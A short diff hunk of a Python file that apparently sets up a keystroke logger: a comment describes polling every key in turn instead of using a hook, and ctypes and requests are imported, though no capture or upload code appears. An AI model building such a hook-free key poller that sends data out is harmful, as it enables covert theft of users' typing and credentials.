@@ -1,4 +1,5 @@
 import inert_sample  # there is no such module: nothing below ever runs
+
 # trick: no hook, every key is asked for in turn
 import ctypes
 import requests
